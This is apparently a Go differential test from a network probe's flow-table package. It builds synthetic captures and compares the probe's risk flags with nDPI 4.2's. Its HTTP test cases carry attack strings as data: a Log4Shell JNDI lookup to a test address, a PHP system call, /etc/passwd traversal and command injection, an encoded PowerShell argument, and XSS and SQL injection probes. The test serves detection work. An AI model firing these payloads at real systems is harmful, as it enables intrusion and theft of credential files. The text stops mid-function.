package flowtable_test

import (
	"bytes"
	"fmt"
	"net"
	"net/netip"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/gopacket/gopacket/layers"

	"github.com/probe-appliance/probe/controlplane/flowtable"
	"github.com/probe-appliance/probe/controlplane/l7"
	"github.com/probe-appliance/probe/internal/fixture"
)

// ndpiRiskText is how ndpiReader 4.2 prints the risks this differential
// test compares (ndpi_risk2str); a risk the probe raises that is not here
// is not compared yet.
var ndpiRiskText = map[l7.Risk]string{
	l7.RiskSuspiciousDGADomain:       "Suspicious DGA Domain name",
	l7.RiskUnsafeProtocol:            "Unsafe Protocol",
	l7.RiskURLPossibleXSS:            "XSS Attack",
	l7.RiskURLPossibleSQLInjection:   "SQL Injection",
	l7.RiskURLPossibleRCEInjection:   "RCE Injection",
	l7.RiskHTTPSuspiciousUserAgent:   "HTTP Suspicious User-Agent",
	l7.RiskNumericIPHost:             "HTTP Numeric IP Address",
	l7.RiskHTTPSuspiciousURL:         "HTTP Suspicious URL",
	l7.RiskHTTPSuspiciousContent:     "HTTP Suspicious Content",
	l7.RiskPossibleExploit:           "Possible Exploit Detected",
	l7.RiskHTTPSuspiciousHeader:      "HTTP Suspicious Header",
	l7.RiskClearTextCredentials:      "Clear-Text Credentials",
	l7.RiskBinaryApplicationTransfer: "Binary Application Transfer",
	// What ndpiReader raises on ntopng's captures besides.
	l7.RiskTLSObsoleteVersion:          "Obsolete TLS Version (1.1 or older)",
	l7.RiskTLSCertificateExpired:       "TLS Expired Certificate",
	l7.RiskTLSCertificateMismatch:      "TLS Certificate Mismatch",
	l7.RiskTLSNotCarryingHTTPS:         "TLS (probably) Not Carrying HTTPS",
	l7.RiskTLSFatalAlert:               "TLS Fatal Alert",
	l7.RiskTLSCertificateAboutToExpire: "TLS Certificate About To Expire",
}

var ndpiRiskField = regexp.MustCompile(`\[Risk: ([^\]]*)\]`)

// ndpiReaderRisks runs ndpiReader on a capture and returns, by flowKey,
// the compared risks it printed for each flow.
func ndpiReaderRisks(t *testing.T, pcap string) map[string][]l7.Risk {
	t.Helper()
	byText := map[string]l7.Risk{}
	for r, s := range ndpiRiskText {
		byText[s] = r
	}
	flows := map[string][]l7.Risk{}
	ndpiReaderLines(t, pcap, func(key, line string, _ []string) {
		var risks []l7.Risk
		if rm := ndpiRiskField.FindStringSubmatch(line); rm != nil {
			for _, s := range strings.Split(rm[1], "**") {
				if r, ok := byText[strings.TrimSpace(s)]; ok {
					risks = append(risks, r)
				}
			}
		}
		slices.Sort(risks)
		flows[key] = risks
	})
	return flows
}

// probeRisks is the compared risks of each flow of the capture, by flowKey.
func probeRisks(t *testing.T, pcap string) (map[string][]l7.Risk, map[string]string) {
	t.Helper()
	tb := replayFile(t, pcap)
	flows, names := map[string][]l7.Risk{}, map[string]string{}
	tb.View(func(v flowtable.View) {
		v.EachFlow(func(f *flowtable.Flow) {
			if f.Retired() {
				return
			}
			proto := map[uint8]string{1: "ICMP", 6: "TCP", 17: "UDP", 58: "ICMPV6"}[f.Proto]
			if proto == "" {
				proto = fmt.Sprint(f.Proto)
			}
			k := flowKey(proto, netip.AddrPortFrom(f.Client, f.ClientPort), netip.AddrPortFrom(f.Server, f.ServerPort))
			var risks []l7.Risk
			f.Risks().Risks.Each(func(r l7.Risk) {
				if _, ok := ndpiRiskText[r]; ok {
					risks = append(risks, r)
				}
			})
			flows[k], names[k] = risks, f.ServerName
		})
	})
	return flows, names
}

// dgaCaptureNames are the names of the generated DGA capture: generated
// and ordinary names from the golden file's edges, Tor's random SNIs, names
// longer than the 79 characters nDPI keeps, and names under nDPI's DGA
// exceptions.
var dgaCaptureNames = []string{
	"www.q4cyamnc6mtokjurvdclt.com", "www.gfu7hbxpfp.com", "www.e6r5p57kbafwrxj3plz.com",
	"www.jmts2id.com", "www.ct7ctrgb6cr7.com", "www.6gyip7tqim7sieb.com",
	"lbnvwjfkqsjvmkpb.com", "qyvadtexhkzv.net", "xjpakmdcfuqe.org", "kqqewbjcgqfp.ru",
	"1h3cq9cqs5d0q1klh8b8z0q5ux.org", "cgqyqnuryhhbyuyh.tw", "cdn.krxd.net",
	"www.wikipedia.org", "packages.debian.org", "www.example.com", "stackoverflow.com",
	"my-very-long-hostname-here.example.com", "abc12.com", "aaaaaaa.com", "a.b.c.d.e.f.g.com",
	"mzxw6ytboi2dambqgezdgnbvgy3tqojqgezdgnbvgy3tqojq.x.example.com",
	// Longer than 79: nDPI keeps the last 79 characters. The first name is
	// generated in its first 79 only.
	"qzxwvkjpqzxw.internationalbusinessmachinescorporation.supercalifragilisticexpialidocious.com",
	"qwrtypsdfgzxkvbnmlkjhgfdsq.example.com.with.many.labels.that.go.on.and.on.example.org",
	"news.example.com.more.labels.here.to.pass.seventy.nine.characters.qzxwvkjpqzxwvkjpqzxw.com",
	// nDPI's DGA exceptions.
	"qzxwvkjpq.e5.sk", "qzxwvkjpq.sophosxl.net", "qzxwvkjpq.ras.microsoft.com",
}

// dgaHTTPHosts are Host values with a port: nDPI scores the value as sent.
var dgaHTTPHosts = []string{"qyvadtexhkzv.net:8080", "www.example.com:8080", "cdn.krxd.net:80", "abc.qzxw.net:12345"}

// dgaOtherDNS are queried over mDNS and LLMNR.
var dgaOtherDNS = []string{"lbnvwjfkqsjvmkpb.com", "qyvadtexhkzv.net", "www.example.com"}

// TestRisksMatchNDPIReader is the differential test of the flow risks
// against the real nDPI 4.2: on ntopng's captures and a generated one,
// every flow has the compared risks ndpiReader prints, no more, no fewer.
func TestRisksMatchNDPIReader(t *testing.T) {
	corpus, corpusNames := writeCorpusCapture(t)
	// The generated captures whose flows are named by case, not by Host.
	caseNames := map[string][]string{"inject.pcap": injectHosts(), "corpus.pcap": corpusNames}
	captures := []string{
		fixture.Shared(t, ntopngE2E+"/pcap/test_01.pcap"),
		fixture.Shared(t, ntopngE2E+"/pcap/test_02.pcap"),
		writeNameCapture(t, "dga.pcap", dgaCaptureNames, dgaHTTPHosts, dgaOtherDNS),
		writeTorCapture(t),
		writeMiningCapture(t),
		writeHTTPRiskCapture(t),
		writeInjectCapture(t),
		corpus,
	}
	usedKnown := map[string]bool{}
	for _, pcap := range captures {
		base := filepath.Base(pcap)
		ndpi := ndpiReaderRisks(t, pcap)
		ours, names := probeRisks(t, pcap)
		keys := slices.Sorted(func(yield func(string) bool) {
			for k := range ndpi {
				if !yield(k) {
					return
				}
			}
		})
		risky, same := 0, 0
		for _, k := range keys {
			got, ok := ours[k]
			if !ok {
				if len(ndpi[k]) > 0 {
					t.Errorf("%s: %s: nDPI has the flow with %v, the table does not", base, k, ndpi[k])
				}
				continue
			}
			if len(ndpi[k]) > 0 {
				risky++
			}
			if slices.Equal(got, ndpi[k]) {
				same++
				continue
			}
			name := names[k]
			if ns, ok := caseNames[base]; ok {
				name = caseName(ns, k)
			}
			if d, ok := riskKnownDifferences[base+" "+name]; ok && slices.Equal(d.ndpi, ndpi[k]) && slices.Equal(d.probe, got) {
				usedKnown[base+" "+name] = true
				continue
			}
			t.Errorf("%s: %s (%s): probe raises %v, nDPI 4.2 %v", base, k, names[k], got, ndpi[k])
		}
		t.Logf("%s: %d flows agree with nDPI, %d of them with compared risks", base, same, risky)
		if risky == 0 {
			t.Errorf("%s: nDPI raised none of the compared risks: the capture tests nothing", base)
		}
	}
	for flow, d := range riskKnownDifferences {
		if !usedKnown[flow] {
			t.Errorf("known difference no longer seen, drop it: %s %v (%s)", flow, d.ndpi, d.why)
		}
	}
}

// writeTorCapture: TLS to addresses of nDPI's Tor list, other traffic to
// one, TLS with Tor's random SNIs and with names nDPI's host table gives
// an unsafe application.
func writeTorCapture(t *testing.T) string {
	t.Helper()
	w := newCapWriter(t, "tor.pcap")
	cli := net.IP{192, 0, 2, 10}
	srv := func(i int) net.IP { return net.IP{198, 51, 100, byte(10 + i)} }
	w.tcpConn(cli, net.IP{2, 26, 247, 176}, 20001, 443, clientHello("www.example.com"))
	w.tcpConn(cli, net.IP{2, 31, 116, 225}, 20002, 9001, bytes.Repeat([]byte{0x5a, 0x17, 0x9a}, 16))
	w.udp(cli, net.IP{2, 34, 104, 169}, 20003, 9001, bytes.Repeat([]byte{0x5a}, 40))
	for i, sni := range []string{
		"www.q4cyamnc6mtokjurvdclt.com", "www.gfu7hbxpfp.com", "www.e6r5p57kbafwrxj3plz.net",
		"www.jmts2id.com", "www.t3i3ru.com", "qyvadtexhkzv.net", "www.qyvadtexhkzv.org",
		"dist.torproject.org", "www.torrentz.eu", "www.example.com",
	} {
		w.tcpConn(cli, srv(i), uint16(21000+i), 443, clientHello(sni))
	}
	return w.Path
}

// writeMiningCapture: Stratum and Ethereum JSON-RPC on pool ports,
// Bitcoin from and to port 8333, ordinary JSON and traffic that must not
// be Mining, and a TLS connection to a browser miner's host.
func writeMiningCapture(t *testing.T) string {
	t.Helper()
	w := newCapWriter(t, "mining.pcap")
	cli := net.IP{192, 0, 2, 10}
	srv := func(i int) net.IP { return net.IP{198, 51, 100, byte(10 + i)} }
	subscribe := []byte(`{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5.1"]}` + "\n")
	notify := []byte(`{"id":null,"method":"mining.notify","params":["bf","4d16b6f85af6e2198f44ae2a6de67f78487ae5611b77c6c0440b921e00000000"]}` + "\n")
	login := []byte(`{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"44AFFq5kSiGBoZ","pass":"x","agent":"xmrig/6.16.4"}}` + "\n")
	job := []byte(`{"jsonrpc":"2.0","method":"job","params":{"blob":"0707d5efb9ee0565","job_id":"q7PLUPL25UV0","target":"b88d0600"}}` + "\n")
	getwork := []byte(`{"worker": "rig1", "jsonrpc": "2.0", "params": [], "id": 1, "method": "eth_getWork"}`)
	version := append(append([]byte{}, 0xf9, 0xbe, 0xb4, 0xd9), []byte("version\x00\x00\x00\x00\x00\x64\x00\x00\x00\x35\x8d\x49\x32")...)
	w.tcpConn(cli, srv(0), 21000, 3333, subscribe, notify)
	w.tcpConn(cli, srv(1), 21001, 4444, login, job)
	w.tcpConn(cli, srv(2), 21002, 8008, getwork)
	w.tcpConn(cli, srv(3), 21003, 8333, nil, version) // the node on 8333 speaks first
	w.tcpConn(cli, srv(4), 21004, 8333, version)      // the client speaks first: not from 8333
	w.tcpConn(cli, srv(5), 21005, 7000, []byte(`{"id":7,"result":{"ok":true}}`))
	w.tcpConn(cli, srv(6), 21006, 7001, []byte("hello there, nothing to see"), subscribe)
	w.tcpConn(cli, srv(7), 21007, 443, clientHello("coinhive.com"))
	w.udp(cli, net.IP{203, 0, 113, 53}, 21008, 53, dnsQuery(0x3000, "coin-hive.com"))
	// Ethereum discovery: sizes and types on the rule's edges.
	for i, d := range []struct {
		n   int
		typ byte
	}{{98, 1}, {99, 1}, {1279, 4}, {1280, 1}, {200, 5}, {200, 0}} {
		w.udp(cli, srv(20+i), uint16(24000+i), 30303, devp2p(d.n, d.typ))
		w.udp(cli, srv(30+i), 30303, uint16(25000+i), devp2p(d.n, d.typ))
	}
	w.udp(cli, net.IP{255, 255, 255, 255}, 24100, 30303, devp2p(200, 1))
	return w.Path
}

// httpRiskCase is one HTTP exchange of the generated HTTP capture; each
// has its own Host, which names it in the known differences.
type httpRiskCase struct {
	host, target, ua string
	reqHead          string // more request header lines, CRLF-separated
	respHead, body   string // body "" : none; sent with the head unless split
	split            bool   // the body comes in the server's next segment
}

var httpRiskCases = []httpRiskCase{
	{host: "plain.example", target: "/index.html", ua: "Mozilla/5.0 (X11; Linux x86_64)", respHead: "Content-Type: text/html", body: "<html></html>"},
	{host: "log4shell.example", target: "/", ua: "${jndi:ldap://198.51.100.66/a}", respHead: "Content-Type: text/html", body: "<html>"},
	{host: "php.example", target: "/", ua: "<?php system('id'); ?>"},
	{host: "url.example", target: "/", ua: "Mozilla/5.0 http://bot.example/info"},
	{host: "short.example", target: "/", ua: "abc"},
	{host: "testtool.example", target: "/", ua: "test-agent/1.0"},
	{host: "brace.example", target: "/", ua: "curl {x}"},
	{host: "long.example", target: "/", ua: strings.Repeat("Mozilla/5.0 ", 25)},
	{host: "traversal.example", target: "/a/../../etc/passwd", ua: "Mozilla/5.0"},
	{host: "dots.example", target: "/file..txt?x=1", ua: "Mozilla/5.0"},
	{host: "192.0.2.200", target: "/", ua: "Mozilla/5.0"},
	{host: "192.0.2.201:8080", target: "/", ua: "Mozilla/5.0"},
	{host: "[2001:db8::1]", target: "/", ua: "Mozilla/5.0"},
	{host: "010.1.1.1", target: "/", ua: "Mozilla/5.0"},
	{host: "binary.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: text/html", body: "\x00\x01\x02\x03binary"},
	{host: "gzip.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: application/json", body: "\x1f\x8b\x08\x00zipped"},
	{host: "later.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain", body: "\x7f\x80\x81\x82", split: true},
	{host: "image.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: image/png", body: "\x89PNG\r\n"},
	{host: "form.example", target: "/", ua: "Mozilla/5.0", respHead: "Content-Type: application/x-www-form-urlencoded", body: "\xff\xfeab"},
	// RCE needs a PCRE build of nDPI: Debian's 4.2 raises none.
	{host: "rce.example", target: "/run?cmd=;cat%20/etc/passwd&x=$(id)", ua: "Mozilla/5.0"},
	{host: "rce2.example", target: "/run?c=powershell.exe%20-EncodedCommand%20AA", ua: "Mozilla/5.0"},
	// Request headers nDPI finds suspicious, credentials in clear.
	{host: "hdr-arch.example", target: "/", ua: "Mozilla/5.0", reqHead: "Arch: x86_64"},
	{host: "hdr-uuid.example", target: "/", ua: "Mozilla/5.0", reqHead: "Uuid: 1234"},
	{host: "hdr-hire.example", target: "/", ua: "Mozilla/5.0", reqHead: "X-Hire-Me: yes"},
	{host: "hdr-lower.example", target: "/", ua: "Mozilla/5.0", reqHead: "arch: x86_64"},
	{host: "hdr-upper.example", target: "/", ua: "Mozilla/5.0", reqHead: "ARCH: x86_64"},
	{host: "hdr-prefix.example", target: "/", ua: "Mozilla/5.0", reqHead: "Ar: x"},
	{host: "hdr-s.example", target: "/", ua: "Mozilla/5.0", reqHead: "S: 1"},
	{host: "hdr-longer.example", target: "/", ua: "Mozilla/5.0", reqHead: "Rootkit: 1"},
	{host: "hdr-tls.example", target: "/", ua: "Mozilla/5.0", reqHead: "TLS_version: 1"},
	{host: "hdr-colon.example", target: "/", ua: "Mozilla/5.0", reqHead: "Cores:4"},
	{host: "hdr-mem.example", target: "/", ua: "Mozilla/5.0", reqHead: "Mem: 16G"},
	{host: "hdr-os.example", target: "/", ua: "Mozilla/5.0", reqHead: "Os: linux"},
	{host: "hdr-osname.example", target: "/", ua: "Mozilla/5.0", reqHead: "OSNAME: linux"},
	{host: "hdr-osver.example", target: "/", ua: "Mozilla/5.0", reqHead: "Osversion: 5"},
	{host: "hdr-origin.example", target: "/", ua: "Mozilla/5.0", reqHead: "Origin: http://x.example"},
	{host: "hdr-nocolon.example", target: "/", ua: "Mozilla/5.0", reqHead: "Arch x86_64"},
	{host: "hdr-space.example", target: "/", ua: "Mozilla/5.0", reqHead: "Arch : x86_64"},
	// nDPI parses 64 lines of a packet: the request line, Host, User-Agent,
	// then the padding.
	{host: "hdr-line63.example", target: "/", ua: "Mozilla/5.0", reqHead: padHeaders(59) + "\r\nArch: x"},
	{host: "hdr-line62.example", target: "/", ua: "Mozilla/5.0", reqHead: padHeaders(58) + "\r\nArch: x"},
	{host: "auth-line64.example", target: "/", ua: "Mozilla/5.0", reqHead: padHeaders(60) + "\r\nAuthorization: Basic dXNlcjpwYXNz"},
	{host: "auth-line63.example", target: "/", ua: "Mozilla/5.0", reqHead: padHeaders(59) + "\r\nAuthorization: Basic dXNlcjpwYXNz"},
	{host: "hdr-line64.example", target: "/", ua: "Mozilla/5.0", reqHead: padHeaders(60) + "\r\nArch: x"},
	{host: "hdr-line65.example", target: "/", ua: "Mozilla/5.0", reqHead: padHeaders(61) + "\r\nArch: x"},
	{host: "auth-line65.example", target: "/", ua: "Mozilla/5.0", reqHead: padHeaders(61) + "\r\nAuthorization: Basic dXNlcjpwYXNz"},
	{host: "hdr-ok.example", target: "/", ua: "Mozilla/5.0", reqHead: "Accept-Language: en"},
	{host: "auth-basic.example", target: "/", ua: "Mozilla/5.0", reqHead: "Authorization: Basic dXNlcjpwYXNz"},
	{host: "auth-bearer.example", target: "/", ua: "Mozilla/5.0", reqHead: "Authorization: Bearer abc"},
	{host: "auth-nospace.example", target: "/", ua: "Mozilla/5.0", reqHead: "Authorization:Basic dXNlcjpwYXNz"},
	{host: "auth-lower.example", target: "/", ua: "Mozilla/5.0", reqHead: "authorization: Basic dXNlcjpwYXNz"},
	{host: "auth-empty.example", target: "/", ua: "Mozilla/5.0", reqHead: "Authorization: "},
	{host: "auth-short.example", target: "/", ua: "Mozilla/5.0", reqHead: "Authorization: a"},
	{host: "auth-len21.example", target: "/", ua: "Mozilla/5.0", reqHead: "Authorization: abcdef"},
	{host: "auth-len22.example", target: "/", ua: "Mozilla/5.0", reqHead: "Authorization: abcdefg"},
	{host: "auth-len23.example", target: "/", ua: "Mozilla/5.0", reqHead: "Authorization: abcdefgh"},
	{host: "auth-digest.example", target: "/", ua: "Mozilla/5.0", reqHead: "Authorization: Digest username=\"u\", realm=\"r\""},
	{host: "auth-proxy.example", target: "/", ua: "Mozilla/5.0", reqHead: "Proxy-Authorization: Basic dXNlcjpwYXNz"},
	// Executables sent: nDPI's MIME subtypes (compared over the received
	// length, after 12 unread characters), attachment extensions (the 3
	// characters before the value's last), body magic, the Windows Update
	// exception, and Java fetching bytecode (Log4Shell's second stage).
	{host: "bin-dosexec.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/x-dosexec", body: "MZ\x90\x00"},
	{host: "bin-dosexec-txt.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/x-dosexec", body: "hello"},
	{host: "bin-octet-mz.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/octet-stream", body: "MZ\x90\x00"},
	{host: "bin-octet-pk.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/octet-stream", body: "PK\x03\x04"},
	{host: "bin-octet-txt.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/octet-stream", body: "hello"},
	{host: "bin-octe.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/octe", body: "hello"},
	{host: "bin-octetx.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/octet-streamx", body: "hello"},
	{host: "bin-zip.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/zip", body: "PK\x03\x04"},
	{host: "bin-xzip.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/x-zip", body: "hello"},
	{host: "bin-msdl.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/x-msdownload", body: "hello"},
	{host: "bin-exe.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/exe", body: "hello"},
	{host: "bin-pe.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/vnd.microsoft.portable-executable", body: "hello"},
	{host: "bin-cab.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/vnd.ms-cab-compressed", body: "hello"},
	{host: "bin-jar.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/java-archive", body: "hello"},
	{host: "bin-javavm.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/java-vm", body: "hello"},
	{host: "bin-apk.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/vnd.android.package-archive", body: "hello"},
	{host: "bin-bz2.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/bz2", body: "hello"},
	{host: "bin-xtar.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/x-tar", body: "hello"},
	{host: "bin-html-mz.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/html", body: "MZ\x90\x00"},
	{host: "bin-html-elf.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/html", body: "\x7fELF"},
	{host: "bin-html-macho.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/html", body: "\xcf\xfa\xed\xfe"},
	{host: "bin-html-dex.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/html", body: "dex\n035\x00xx"},
	{host: "bin-html-shebang.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/html", body: "#!/bin/sh"},
	{host: "bin-none-mz.example", target: "/a", ua: "Mozilla/5.0", respHead: "X-None: 1", body: "MZ\x90\x00"},
	{host: "bin-upper.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: APPLICATION/X-DOSEXEC", body: "hello"},
	{host: "bin-textexe.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/x-dosexec", body: "hello"},
	{host: "bin-split-mz.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/html", body: "MZ\x90\x00", split: true},
	{host: "bin-att-quoted.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Disposition: attachment; filename=\"setup.exe\"", body: "xxxx"},
	{host: "bin-att-plain.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Disposition: attachment; filename=setup.exe", body: "xxxx"},
	{host: "bin-att-ct.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"setup.exe\"", body: "xxxx"},
	{host: "bin-att-msi.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"a.msi\"", body: "xxxx"},
	{host: "bin-att-txt.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"a.txt\"", body: "xxxx"},
	{host: "x.windowsupdate.com", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/x-dosexec", body: "MZ\x90\x00"},
	// Content-Type and Content-Disposition as nDPI's line parser reads them.
	{host: "bin-charset.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/octet-stream; charset=binary", body: "hello"},
	{host: "bin-nospace.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type:application/x-dosexec", body: "hello"},
	{host: "bin-twospace.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type:  application/x-dosexec", body: "hello"},
	{host: "bin-lowerhdr.example", target: "/a", ua: "Mozilla/5.0", respHead: "content-type: application/x-dosexec", body: "hello"},
	{host: "bin-att-unq-ct.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=setup.exe", body: "xxxx"},
	{host: "bin-att-upper.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"SETUP.EXE\"", body: "xxxx"},
	{host: "bin-att-inline.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain\r\nContent-Disposition: inline; filename=\"setup.exe\"", body: "xxxx"},
	{host: "bin-att-mpeg.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: application/mpeg\r\nContent-Disposition: attachment; filename=\"setup.exe\"", body: "xxxx"},
	{host: "bin-att-cab.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"a.cab\"", body: "xxxx"},
	{host: "bin-att-lower.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain\r\ncontent-disposition: attachment; filename=\"a.exe\"", body: "xxxx"},
	{host: "bin-att-short.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"exe\"", body: "xxxx"},
	{host: "bin-mz-short.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain", body: "M"},
	{host: "bin-dex7.example", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain", body: "dex\n035"},
	// The exception, requests, Java.
	{host: "y.windowsupdate.com", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/html", body: "MZ\x90\x00"},
	{host: "z.windowsupdate.com", target: "/a", ua: "Mozilla/5.0", respHead: "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=\"setup.exe\"", body: "xxxx"},
	{host: "bin-req-ct.example", target: "/a", ua: "Mozilla/5.0", reqHead: "Content-Type: application/octet-stream"},
	{host: "bin-req-mz.example", target: "/a", ua: "Mozilla/5.0", reqHead: "Content-Length: 4\r\n\r\nMZ\x90\x00"},
	{host: "bin-java.example", target: "/a", ua: "Java/1.8.0_51", respHead: "Content-Type: application/java-vm", body: "\xca\xfe\xba\xbe"},
	{host: "bin-post-mz.example", target: "/a", ua: "Mozilla/5.0", reqHead: "Content-Length: 3\r\n\r\na=1", respHead: "Content-Type: text/html", body: "MZ\x90\x00"},
	{host: "bin-post-mime.example", target: "/a", ua: "Mozilla/5.0", reqHead: "Content-Length: 3\r\n\r\na=1", respHead: "Content-Type: application/x-dosexec", body: "hello"},
	{host: "bin-java-octet.example", target: "/a", ua: "Java/1.8.0_51", respHead: "Content-Type: application/octet-stream", body: "\xca\xfe\xba\xbe"},
	{host: "bin-java-nobin.example", target: "/a", ua: "Java/1.8.0_51", respHead: "Content-Type: application/java-vmx", body: "\xca\xfe\xba\xbe"},
	{host: "bin-java-mz.example", target: "/a", ua: "Java/1.8.0_51", respHead: "Content-Type: text/html", body: "MZ\x90\x00"},
	{host: "bin-java-charset.example", target: "/a", ua: "Java/1.8.0_51", respHead: "Content-Type: application/java-vm; x=1", body: "\xca\xfe\xba\xbe"},
	// libinjection's: more in the injection capture.
	{host: "xss.example", target: "/search?q=<script>alert(1)</script>", ua: "Mozilla/5.0"},
	{host: "sqli.example", target: "/item?id=1'%20OR%20'1'='1", ua: "Mozilla/5.0"},
}

// riskKnownDifferences are the generated captures' flows (by capture and
// Host) where the probe does not raise what nDPI 4.2 raises, with the
// reason.
var riskKnownDifferences = map[string]struct {
	ndpi, probe []l7.Risk
	why         string
}{
	"inject.pcap long-late.example": {nil, []l7.Risk{l7.RiskURLPossibleXSS},
		"ndpiReader validates its own 255-character copy of the URL (reader_util's http.url[256]), so an attack " +
			"padded past it goes unseen; ntopng validates nDPI's whole URL, and so does the probe"},
	"inject.pcap hostq.example?q=<script>alert(1)</script>": {
		[]l7.Risk{l7.RiskURLPossibleXSS, l7.RiskSuspiciousDGADomain}, []l7.Risk{l7.RiskURLPossibleXSS},
		"nDPI scores any Host value for DGA; the probe keeps no server name from one with characters no host " +
			"name has ('?', '<'), so it scores none"},
}

// libinjectionAfter392 are the injection capture's inputs the pinned
// libinjection-go (v0.3.5) calls SQL injection where the libinjection
// 3.9.2 inside libndpi 4.2 does not: "1.e" numbers, a bypass fixed after
// 3.9.2 (v0.2.2, which answers as 3.9.2 here, panics on an unterminated
// CDATA section; see l7's TestURLRisk).
var libinjectionAfter392 = []string{
	"inject.pcap later-eparen.example", "inject.pcap later-emod.example", "inject.pcap later-ediv.example", "inject.pcap later-eand.example",
	"corpus.pcap test-sqli-1e-001.txt", "corpus.pcap test-sqli-1e-002.txt", "corpus.pcap test-sqli-1e-003.txt", "corpus.pcap test-sqli-1e-004.txt",
}

func init() {
	for _, flow := range libinjectionAfter392 {
		riskKnownDifferences[flow] = struct {
			ndpi, probe []l7.Risk
			why         string
		}{nil, []l7.Risk{l7.RiskURLPossibleSQLInjection}, "libinjection-go v0.3.5 knows the \"1.e\" number bypass that libinjection 3.9.2 misses"}
	}
}

// padHeaders is n harmless header lines.
func padHeaders(n int) string {
	lines := make([]string, n)
	for i := range lines {
		lines[i] = "Y-Pad-" + strconv.Itoa(i) + ": v"
	}
	return strings.Join(lines, "\r\n")
}

func writeHTTPRiskCapture(t *testing.T) string {
	t.Helper()
	w := newCapWriter(t, "http.pcap")
	cli := net.IP{192, 0, 2, 10}
	for i, c := range httpRiskCases {
		extra := ""
		if c.reqHead != "" {
			extra = c.reqHead + "\r\n"
		}
		req := []byte("GET " + c.target + " HTTP/1.1\r\nHost: " + c.host + "\r\nUser-Agent: " + c.ua + "\r\n" + extra + "Accept: */*\r\n\r\n")
		head := "HTTP/1.1 200 OK\r\nServer: test\r\n"
		if c.respHead != "" {
			head += c.respHead + "\r\n"
		}
		head += "Content-Length: " + strconv.Itoa(len(c.body)) + "\r\n\r\n"
		srv := net.IP{198, 51, 100, byte(10 + i)}
		if c.split {
			w.tcpConn(cli, srv, uint16(22000+i), 80, req, []byte(head), nil, []byte(c.body))
		} else {
			w.tcpConn(cli, srv, uint16(22000+i), 80, req, []byte(head+c.body))
		}
	}
	return w.Path
}

// writeMidStreamCapture: connections whose first packets were missed (no
// SYN, no banner): SSH on its port, SSH on another port, and an unknown
// service, each a few encrypted-looking segments both ways.
func writeMidStreamCapture(t *testing.T) string {
	t.Helper()
	w := newCapWriter(t, "midstream.pcap")
	cli := net.IP{192, 0, 2, 10}
	for i, port := range []uint16{22, 2222, 7777} {
		srv := net.IP{198, 51, 100, byte(10 + i)}
		cs, ss := uint32(77000), uint32(99000)
		for j := range 6 {
			p := bytes.Repeat([]byte{byte(0x30 + j), 0xa7, 0x5c, 0x01}, 12)
			if j%2 == 0 {
				w.packet(cli, srv, &layers.TCP{SrcPort: layers.TCPPort(23000 + i), DstPort: layers.TCPPort(port), Seq: cs, Ack: ss, ACK: true, PSH: true, Window: 1024}, p)
				cs += uint32(len(p))
			} else {
